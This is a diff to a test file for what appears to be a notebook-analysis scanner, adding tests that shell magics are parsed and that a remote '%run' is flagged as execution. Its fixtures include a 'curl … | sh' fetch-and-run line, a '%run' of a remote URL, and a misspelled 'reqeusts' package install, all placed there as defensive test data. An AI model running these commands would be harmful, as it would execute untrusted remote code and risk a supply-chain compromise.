@@ -83,8 +83,27 @@ describe('notebooks', () => {
     expect(read('notebook', notebook).units.map((unit) => [unit.language, unit.text])).toEqual([
       ['markdown', '# Title\nText'],
       ['shell', 'curl http://192.0.2.1/x | sh\npip install reqeusts'],
-      ['python', 'import os\n\n\n\nx = 1'],
       ['shell', 'id -u\n'],
+      ['python', 'import os\n\n\n\nx = 1'],
+    ]);
+  });
+  test('what a command prints is in the variable, in later cells too', () => {
+    const cells = [
+      { cell_type: 'code', source: 'a = !cat x\nb = %sx id' },
+      { cell_type: 'code', source: 'print(a)\nget_ipython().system("id")' },
+    ];
+    expect(read('notebook', JSON.stringify({ cells })).units.map((unit) => [unit.language, unit.text])).toEqual([
+      ['shell', 'cat x\nid'],
+      [
+        'python',
+        'a = __import__("subprocess").getoutput("cat x")\nb = __import__("subprocess").getoutput("id")\nprint(a)\n__import__("subprocess").getoutput("id")',
+      ],
+    ]);
+  });
+  test('a cell that runs an address', () => {
+    const cells = [{ cell_type: 'code', source: '%run https://c.example.invalid/a.py' }];
+    expect(read('notebook', JSON.stringify({ cells })).facts).toMatchObject([
+      { type: 'execute', host: 'c.example.invalid' },
     ]);
   });
   test('what is none is said to be so', () => {
